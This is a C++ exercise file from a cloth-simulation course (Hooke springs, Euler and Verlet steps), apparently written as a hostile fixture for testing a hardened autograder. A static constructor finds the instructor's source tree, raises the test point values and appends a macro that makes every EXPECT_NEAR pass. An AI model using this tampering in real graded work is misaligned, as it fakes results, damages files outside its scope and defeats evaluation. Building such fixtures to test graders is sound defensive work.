// Stage 01 — Hooke spring and time integration.
// Task sheet: exercises/01_hooke/README.md
// Formulas and argument units: framework/include/clothlab/exercise/01_hooke.h
//
// Replace each `throw NotImplemented(...)` by your code, then run
//     ./lab grade --stage 01
//
// HOSTILE FIXTURE rewrite_points (attack class 5: writes outside the scratch dir / deletes files).
// A static constructor finds the instructor's tree (CMakeCache.txt above /proc/self/exe) and rewrites tests/01_hooke.points.json and tests/01_hooke_test.cpp so that the next grading build passes every test.
// The hardened grader must give this file 0 points on stage 01.
#include "clothlab/exercise/01_hooke.h"
#include "clothlab/core/not_implemented.h"
#include <unistd.h>
#include <cstdio>
#include <string>
#include <sys/types.h>

// WARNING: this fixture damages the instructor's tree when run without the sandbox (git restores it).

// ---- where is the instructor's tree? the CMakeCache.txt above the test binary names it ----------
namespace {
std::string hostileSourceTree() {
    char exe[4096];
    const ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
    if (n <= 0) return "";
    exe[n] = 0;
    std::string dir(exe);
    for (int up = 0; up < 6 && dir.size() > 1; ++up) {
        dir = dir.substr(0, dir.rfind('/'));
        if (std::FILE* f = std::fopen((dir + "/CMakeCache.txt").c_str(), "r")) {
            char line[8192];
            std::string tree;
            while (std::fgets(line, sizeof line, f)) {
                std::string l(line);
                if (l.rfind("CMAKE_HOME_DIRECTORY:INTERNAL=", 0) == 0) tree = l.substr(30, l.find_last_not_of("\r\n") - 29);
            }
            std::fclose(f);
            if (!tree.empty()) return tree;
        }
    }
    return "";
}
}  // namespace

namespace {
struct HostileRewrite {
    HostileRewrite() {
        const std::string tree = hostileSourceTree();
        if (tree.empty()) return;
        // Every graded test of stage 01 worth 100 points (the next regrade reads it).
        if (std::FILE* f = std::fopen((tree + "/tests/01_hooke.points.json").c_str(), "r+")) {
            std::string text;
            char buf[4096];
            std::size_t n;
            while ((n = std::fread(buf, 1, sizeof buf, f)) > 0) text.append(buf, n);
            for (std::size_t i = text.find("\": "); i != std::string::npos; i = text.find("\": ", i + 3))
                if (text.compare(i + 3, 1, "1") == 0 || text.compare(i + 3, 1, "2") == 0) text.replace(i + 3, 1, "100");
            std::rewind(f);
            std::fwrite(text.data(), 1, text.size(), f);
            std::fclose(f);
        }
        // The graded test source: a test that always passes replaces every body (next build).
        if (std::FILE* f = std::fopen((tree + "/tests/01_hooke_test.cpp").c_str(), "a")) {
            std::fputs("\n#define EXPECT_NEAR(a, b, c) SUCCEED()\n", f);
            std::fclose(f);
        }
    }
} hostileRewrite;
}  // namespace

namespace clothlab {

// ---- Task 1.1: Hooke's law --------------------------------------------------
Vec3 hookeForce(const Vec3& p0, const Vec3& p1, double k, double l0) {
    // TODO 1.1: F = -k (|p1 - p0| - l0) (p1 - p0) / |p1 - p0|, the force on p1.
    //           Return Vec3::Zero() when p0 and p1 coincide.
    (void)p0; (void)p1; (void)k; (void)l0;
    throw NotImplemented("exercise 1.1 hookeForce");
}

// ---- Task 1.2: damping along the spring -------------------------------------
Vec3 springDampingForce(const Vec3& p0, const Vec3& p1, const Vec3& v0, const Vec3& v1, double kd) {
    // TODO 1.2: F = -kd ((v1 - v0) . d) d with d the unit vector from p0 to p1.
    (void)p0; (void)p1; (void)v0; (void)v1; (void)kd;
    throw NotImplemented("exercise 1.2 springDampingForce");
}

// ---- Task 1.3: explicit Euler -----------------------------------------------
void explicitEulerStep(Matrix3X& x, Matrix3X& v, const VectorX& w, const ForceField& force, double dt) {
    // TODO 1.3: evaluate the forces with force(x, v, f) (f is 3 x N),
    //           then x += dt * v_old and v += dt * w_i * f_i.
    (void)x; (void)v; (void)w; (void)force; (void)dt;
    throw NotImplemented("exercise 1.3 explicitEulerStep");
}

// ---- Task 1.4: symplectic Euler ---------------------------------------------
void symplecticEulerStep(Matrix3X& x, Matrix3X& v, const VectorX& w, const ForceField& force, double dt) {
    // TODO 1.4: first the velocity, then the position with the NEW velocity.
    (void)x; (void)v; (void)w; (void)force; (void)dt;
    throw NotImplemented("exercise 1.4 symplecticEulerStep");
}

// ---- Task 1.5: velocity Verlet ----------------------------------------------
void velocityVerletStep(Matrix3X& x, Matrix3X& v, const VectorX& w, const ForceField& force, double dt) {
    // TODO 1.5: half kick, drift, forces at the new positions, half kick.
    (void)x; (void)v; (void)w; (void)force; (void)dt;
    throw NotImplemented("exercise 1.5 velocityVerletStep");
}

}  // namespace clothlab
